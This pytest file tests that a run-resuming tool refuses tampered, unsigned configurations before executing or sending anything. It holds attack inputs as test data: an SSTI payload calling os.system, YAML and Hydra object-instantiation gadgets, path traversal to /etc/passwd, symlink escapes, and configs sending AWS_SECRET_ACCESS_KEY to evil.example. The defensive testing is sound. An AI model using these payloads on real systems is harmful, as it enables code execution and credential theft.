"""Received and altered directories: nothing is sent, read or executed before they are trusted."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers.batches import write_all
from helpers.runs import ONLY_TWO
from helpers.sessions import RUN, begin, begin_anew, resume

from runner.base.errors import ConfigError
from runner.record.signature import SIGNATURE, fault_of, sign_stored
from runner.reports.whatif.command import read_recording
from runner.run.remote import STATUS_FOLDER, Origin, collect
from runner.run.resume import read_resumption
from runner.run.resume_sweep import SweepResumption, read_sweep
from runner.transcript.inputs import find_inputs

CODE = "from pathlib import Path\n\nPath('{}').touch()\n"
MARK = Path("executed").absolute
SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"
SSTI = "{{ cycler.__init__.__globals__.os.system('touch executed') }}"


@pytest.fixture
def begun() -> None:
    """Put a run that was interrupted after one answer into ./run."""
    begin(answers=1)


@pytest.fixture(autouse=True)
def victim(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)


def plant(folder: Path) -> Path:
    """Write a prompt whose template and module leave a mark when they are executed."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evil.md").write_text(SSTI)
    (folder / "evil.py").write_text(CODE.format(MARK()))
    return folder.absolute()


def change(**values: Any) -> None:
    """Change keys, with `__` for a dot, in the stored configuration."""
    for name in ("composed", "resolved"):
        file = RUN / f"config/{name}.yaml"
        data = yaml.safe_load(file.read_text())
        for key, value in values.items():
            *above, last = key.split("__")
            section = data
            for part in above:
                section = section[part]
            section[last] = value
        file.write_text(yaml.safe_dump(data))


def unsign() -> None:
    (RUN / SIGNATURE).unlink()


def refused(*arguments: str) -> str:
    """Return why the run is not resumed; nothing was executed, asked or written."""
    before = {path: path.stat().st_mtime_ns for path in Path().rglob("*")}
    with pytest.raises(ConfigError) as raised:
        resume(*arguments)

    assert before == {path: path.stat().st_mtime_ns for path in Path().rglob("*")}
    assert SECRET not in str(raised.value)
    return str(raised.value)


@pytest.mark.usefixtures("begun")
def test_a_run_of_this_user_goes_on_also_after_a_move() -> None:
    assert fault_of(RUN) is None
    assert (0, 7) == (lambda code, asked: (code, len(asked)))(*resume())


def test_an_unsigned_run_goes_on_after_one_line_and_is_signed_from_then_on(
    capsys: pytest.CaptureFixture[str],
) -> None:
    begin(answers=3)
    unsign()
    line = refused()

    assert line.startswith(
        "resume=run: not signed by you; with trusted=true it reads pkg://samples/sample1.md, "
    )
    assert f"writes to {Path('outputs').absolute()}" in line

    code, asked = resume("trusted=true", answers=1)
    said = capsys.readouterr().err

    assert (130, 1) == (code, len(asked))
    assert f"colloquy: {line}" in said.splitlines()
    assert (0, 4) == (lambda code, asked: (code, len(asked)))(*resume())


def test_a_complete_run_that_is_not_signed_is_refused_too() -> None:
    begin()
    unsign()

    assert "not signed by you" in refused()


@pytest.mark.parametrize("signed", [True, False])
@pytest.mark.usefixtures("begun")
def test_the_line_says_which_host_gets_the_value_of_which_variable(signed: bool) -> None:
    change(
        model__name="openai/gpt-5-mini",
        model__api_base="https://who:cares@evil.example:8443/v1",
        model__api_key_env="AWS_SECRET_ACCESS_KEY",
        model__params={"extra_headers": {"x": "y"}},
        collection__embeddings="mistral/mistral-embed",
    )
    if not signed:
        unsign()
    line = refused()

    assert "sends the value of AWS_SECRET_ACCESS_KEY to evil.example:8443 for openai/" in line
    assert 'with params {"extra_headers":{"x":"y"}}' in line
    assert "sends the value of MISTRAL_API_KEY to mistral for mistral/mistral-embed" in line


@pytest.mark.parametrize(
    ("model", "said"),
    [
        ({"name": "anthropic/claude-x"}, "any credentials of anthropic (ANTHROPIC_API_KEY)"),
        ({"name": "openai/x", "api_base": "https://evil.example"}, "no key to evil.example"),
        ({"name": "vertex_ai/x", "api_base": "https://evil.example"}, "any credentials of vertex"),
        ({"name": "openai/x", "api_base": "https://evil.example", "simulate": {}}, "evil.example"),
    ],
)
@pytest.mark.usefixtures("begun")
def test_no_receiver_is_left_out(model: dict[str, Any], said: str) -> None:
    """A simulated model with an address is none."""
    change(**{f"model__{key}": value for key, value in model.items()})

    assert said in refused()


@pytest.mark.usefixtures("begun")
def test_receivers_of_models_besides_the_first_are_named_too() -> None:
    models = yaml.safe_load((RUN / "config/resolved.yaml").read_text())["model"]
    own = {"name": "openai/x", "api_base": "https://evil.example", "api_key_env": "HOME"}
    change(models={"backup": {**models, **own}})

    assert "the value of HOME to evil.example" in refused()


@pytest.mark.usefixtures("begun")
def test_a_transcript_that_was_planted_is_named_and_not_read() -> None:
    change(transcript__path="/etc/passwd")

    assert "reads /etc/passwd" in refused()


@pytest.mark.parametrize(
    ("key", "path"),
    [
        ("transcript.path", "talks/../../secret.md"),
        ("transcript.path", "link/secret.md"),
        ("transcript.path", ".."),
        ("output.dir", "../secret.md"),
    ],
)
@pytest.mark.usefixtures("begun")
def test_a_relative_path_leads_nowhere_else(key: str, path: str, tmp_path: Path) -> None:
    outside = tmp_path.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.md").write_text("Ann: The code is 1234.\n")
    Path("link").symlink_to(outside)
    change(**{key.replace(".", "__"): path})

    assert f"{key}={path} is outside this directory" in refused("trusted=true")


@pytest.mark.parametrize(
    "name", ["{}/evil.md", "../planted/evil.md", "./evil.md", "planted/evil.md", "..", ".evil.md"]
)
@pytest.mark.usefixtures("begun")
def test_a_prompt_is_a_name_and_no_path(name: str) -> None:
    folder = plant(Path("planted"))
    change(analyzers__say_means__prompt=name.format(folder))
    message = refused("trusted=true")

    assert "analyzers.say_means.prompt=" in message
    assert "expected the name of a file" in message
    assert not MARK().exists()


@pytest.mark.parametrize("answer", ["../planted/evil", "{}/evil", "os.path", "_analyzer", "evil\n"])
@pytest.mark.usefixtures("begun")
def test_the_module_of_an_answer_is_a_name_and_no_path(answer: str) -> None:
    folder = plant(Path("planted"))
    change(analyzers__say_means__answer=answer.format(folder))

    assert "analyzers.say_means.answer=" in refused("trusted=true")
    assert not MARK().exists()


@pytest.mark.usefixtures("begun")
def test_a_folder_that_a_run_names_is_not_used_unless_it_is_given() -> None:
    folder = plant(Path("planted"))
    change(analyzers__say_means__prompt="evil.md")
    file = RUN / "config/prompts.json"
    file.write_text(json.dumps({**json.loads(file.read_bytes()), "config_dirs": [str(folder)]}))

    assert "the code of the installed package only" in refused()
    assert f"add --config-dir {folder}, whose code is then run" in refused("trusted=true")

    file.write_text(json.dumps({**json.loads(file.read_bytes()), "config_dirs": []}))

    assert "no prompt file 'evil.md'" in refused("trusted=true")
    assert not MARK().exists()


@pytest.mark.parametrize("name", ["evil.md", "evil.py"])
def test_a_link_out_of_a_folder_is_not_followed(name: str) -> None:
    plant(Path("planted"))
    shutil.copytree("planted", "mine/analyzers")
    (Path("mine/analyzers") / "evil.md").write_text("Ask.")
    (Path("mine/analyzers") / name).unlink()
    (Path("mine/analyzers") / name).symlink_to(Path("planted", name).absolute())
    with pytest.raises(ConfigError, match="is a link out of its folder"):
        begin("analyzers.say_means.prompt=evil.md", folders=(Path("mine"),))

    assert not MARK().exists()


def test_a_linked_folder_of_prompts_is_not_followed() -> None:
    plant(Path("planted"))
    Path("mine").mkdir()
    Path("mine/analyzers").symlink_to(Path("planted").absolute())
    with pytest.raises(ConfigError, match="mine/analyzers is a link"):
        begin("analyzers.say_means.prompt=evil.md", folders=(Path("mine"),))

    assert not MARK().exists()


def test_a_template_is_rendered_in_a_sandbox() -> None:
    (plant(Path("mine/analyzers")) / "evil.py").unlink()
    with pytest.raises(ConfigError, match=r"evil\.md:1: a prompt may not use the attribute '__"):
        begin("analyzers.say_means.prompt=evil.md", folders=(Path("mine"),))

    assert not MARK().exists()


@pytest.mark.parametrize(
    "value",
    [
        "${oc.env:AWS_SECRET_ACCESS_KEY}",
        "a ${oc.env:AWS_SECRET_ACCESS_KEY,x} b",
        "${oc.decode:'${oc.env:AWS_SECRET_ACCESS_KEY}'}",
        "${${output.pages}:AWS_SECRET_ACCESS_KEY}",
        "${oc.env:\nAWS_SECRET_ACCESS_KEY}",
        "\\\\${oc.env:AWS_SECRET_ACCESS_KEY}",
        "${analyzers}",
        "${model.name} ${model.name}",
        "${transcript.path}${.x}",
        "${analyzers.patentability.max_tokens}",
    ],
)
@pytest.mark.usefixtures("begun")
def test_an_unsigned_configuration_gets_no_variable(value: str) -> None:
    change(analyzers__say_means__variables={"x": value})

    assert "is resolved in signed directories only" in refused("trusted=true")


@pytest.mark.parametrize("kind", ["texts", "lists", "many", "long"])
@pytest.mark.usefixtures("begun")
def test_what_would_grow_without_end_is_not_resolved(kind: str) -> None:
    match kind:
        case "texts":
            grown: Any = {f"a{n}": f"${{b.a{n + 1}}}" * 9 for n in range(40)}
        case "lists":
            grown = {f"a{n}": [f"${{b.a{n + 1}}}"] * 9 for n in range(40)}
        case "many":
            grown = ["${repeat}"] * 3000
        case _:
            grown = {"x": "y" * 100_000, "z": ["${b.x}"] * 1000}
    change(b=grown)

    assert "is resolved in signed directories only" in refused("trusted=true")


def test_a_configuration_of_this_user_may_use_a_variable() -> None:
    begin(
        "+analyzers.say_means.variables.x=${oc.env:HOME}",
        answers=1,
    )

    assert (0, 7) == (lambda code, asked: (code, len(asked)))(*resume())


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['touch executed']",
        "a: !!python/name:os.system",
        "a: &a [*a]",
        "a: 2026-11-28",
        "? [1]\n: 2",
        "a: ${b}\nb: ${a}",
        "a: !!set {x}",
        "model: {_target_: os.system, _args_: [touch executed]}",
        "hydra: {launcher: {_target_: os.system}}",
        "defaults: [/etc/passwd]",
        "{" * 200,
        "[]",
    ],
)
@pytest.mark.usefixtures("begun")
def test_a_configuration_is_data(text: str) -> None:
    (RUN / "config/composed.yaml").write_text(text)

    assert "\n" not in refused("trusted=true")
    assert not MARK().exists()


def begin_batch_run(*overrides: str) -> None:
    write_all(3)
    transcript = ("transcript=file", "transcript.path=many")
    begin(*ONLY_TWO, *transcript, *overrides, answers=4)


def test_a_batch_is_covered_by_its_own_signature(tmp_path: Path) -> None:
    begin_batch_run()

    assert [RUN / SIGNATURE] == list(RUN.rglob("signature.json"))
    assert fault_of(RUN) is None
    assert (0, 5) == (lambda code, asked: (code, len(asked)))(*resume())

    unsign()

    assert f"reads {tmp_path}/many" in refused()
    assert (0, []) == resume("trusted=true")


def test_the_inputs_of_a_shard_stay_inside_its_folder() -> None:
    Path("secret.txt").write_text("Ann: The code is 1234.\n")
    begin_batch_run("batch.shards=2")
    Path("many/link.txt").symlink_to(Path("secret.txt").absolute())
    names = ["t000.txt", "../secret.txt", str(Path("secret.txt").absolute()), "link.txt"]
    (RUN / "config/inputs.json").write_text(json.dumps(dict.fromkeys(names, True)))

    assert "run/config/inputs.json is not as it was signed" in refused()

    resumed = read_resumption([f"resume={RUN}", "trusted=true"]).job

    assert ["t000.txt"] == [file.name for file in find_inputs(resumed.settings, names)]
    assert ["t000.txt"] == [file.name for file in getattr(resumed, "inputs", ())]


def write_sweep(*overrides: str) -> Path:
    """Write the sweep of a job that has not begun."""
    sweep = Path("sweep").absolute()
    sweeper = {"_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper"}
    hydra = {
        "sweeper": sweeper,
        "sweep": {"subdir": "${hydra.job.num}"},
        "overrides": {"task": list(overrides)},
    }
    sweep.mkdir()
    (sweep / "multirun.yaml").write_text(yaml.safe_dump({"hydra": hydra}))
    return sweep


EVIL = (
    "model=openai",
    "model.api_base=https://evil.example",
    "model.api_key_env=AWS_SECRET_ACCESS_KEY",
    "transcript.path=/etc/passwd",
)


def test_an_unsigned_sweep_starts_nothing_before_its_line(
    capsys: pytest.CaptureFixture[str],
) -> None:
    sweep = write_sweep(*EVIL)
    with pytest.raises(ConfigError) as raised:
        read_sweep([f"resume={sweep}"])

    assert "it sends the value of AWS_SECRET_ACCESS_KEY to evil.example" in str(raised.value)
    assert "reads /etc/passwd" in str(raised.value)

    trusted = read_sweep([f"resume={sweep}", "trusted=true"])

    assert "to evil.example" in capsys.readouterr().err
    assert trusted is not None
    assert 1 == len(trusted.start)

    sign_stored(sweep)
    signed = read_sweep([f"resume={sweep}"])

    assert "" == capsys.readouterr().err
    assert trusted == signed
    assert signed.known


@pytest.mark.usefixtures("begun")
def test_the_plan_of_a_sweep_whose_jobs_have_no_numbers_is_unknown() -> None:
    sweep = write_sweep()
    plan = sweep / "multirun.yaml"
    plan.write_text(plan.read_text().replace("hydra.job.num", "hydra.job.override_dirname"))
    shutil.copytree(RUN, sweep / "repeat=0")
    (sweep / "repeat=0/COMPLETED").touch()
    sign_stored(sweep)

    assert SweepResumption(sweep, [], [], known=False) == read_sweep([f"resume={sweep}"])


@pytest.mark.usefixtures("begun")
def test_a_sweep_whose_plan_is_damaged_is_not_taken_for_complete() -> None:
    sweep = write_sweep()
    shutil.copytree(RUN, sweep / "0")
    sign_stored(sweep)
    plan = sweep / "multirun.yaml"
    plan.write_text(plan.read_text()[:-10])
    with pytest.raises(ConfigError, match="is not as it was signed; with trusted=true it "):
        read_sweep([f"resume={sweep}"])

    for content in ("", "hydra: [", "{}"):
        plan.write_text(content)
        with pytest.raises(ConfigError, match=r"damaged, so the missing runs .* resume=.*sweep/0$"):
            read_sweep([f"resume={sweep}", "trusted=true"])


@pytest.mark.parametrize(
    "override",
    [
        "transcript.path=../secret.md",
        "model.api_base=https://evil.example/${oc.env:AWS_SECRET_ACCESS_KEY}",
        "analyzers.say_means.prompt=/planted/evil.md",
        "+hydra.launcher._target_=os.system",
        "+nonsense=1",
    ],
)
def test_what_an_unsigned_sweep_may_not_do_is_not_started(override: str) -> None:
    sweep = write_sweep(override)
    made = read_sweep([f"resume={sweep}", "trusted=true"])

    assert made is None or made.start == []


@pytest.mark.usefixtures("begun")
def test_one_line_covers_all_runs_of_a_sweep(capsys: pytest.CaptureFixture[str]) -> None:
    sweep = write_sweep()
    unsign()
    for number in (0, 1):
        shutil.copytree(RUN, sweep / str(number))
    with pytest.raises(ConfigError, match="not signed by you"):
        read_sweep([f"resume={sweep}"])

    made = read_sweep([f"resume={sweep}", "trusted=true"])
    capsys.readouterr()

    assert made is not None
    for arguments in made.finish:
        read_resumption(arguments, permitted=True)

    assert "" == capsys.readouterr().err


def test_what_a_launcher_brings_back_is_signed_where_it_arrives(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLLOQUY_SIGNING_KEY", str(Path("of_the_node").absolute()))
    begin_anew(answers=1)
    monkeypatch.delenv("COLLOQUY_SIGNING_KEY")
    sweep = write_sweep()
    for number in (0, 1):
        shutil.copytree(RUN, sweep / str(number))
    note = {"token": "ours", "host": "node7", "exit_code": 0, "error": ""}
    (sweep / STATUS_FOLDER).mkdir()
    (sweep / STATUS_FOLDER / "0.json").write_text(json.dumps(note))
    collect(sweep, Origin("ours", str(Path.cwd())))

    assert [None, None] == [fault_of(sweep), fault_of(sweep / "0")]
    assert f"{SIGNATURE} is not by your key" == fault_of(sweep / "1")  # nobody started it


@pytest.mark.parametrize("prompt", ["/planted/evil.md", "../evil.md"])
def test_a_prediction_reads_no_prompt_that_a_run_names(prompt: str) -> None:
    begin()
    change(analyzers__say_means__prompt=prompt)
    with pytest.raises(ConfigError, match=r"say_means\.prompt="):
        read_recording(RUN)


def test_a_key_that_is_open_to_others_stops_a_run_before_it_begins(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    Path("key").write_text("x" * 40)
    monkeypatch.setenv("COLLOQUY_SIGNING_KEY", "key")
    Path("key").chmod(0o644)
    with pytest.raises(ConfigError, match="the signing key key is open to others"):
        begin_anew()

    assert not RUN.exists()


@pytest.mark.usefixtures("begun")
def test_a_prediction_of_an_unsigned_run_is_none() -> None:
    change(analyzers__say_means__prompt="/planted/evil.md", plan=True)

    assert "expected the name of a file" in refused("plan=true", "trusted=true")
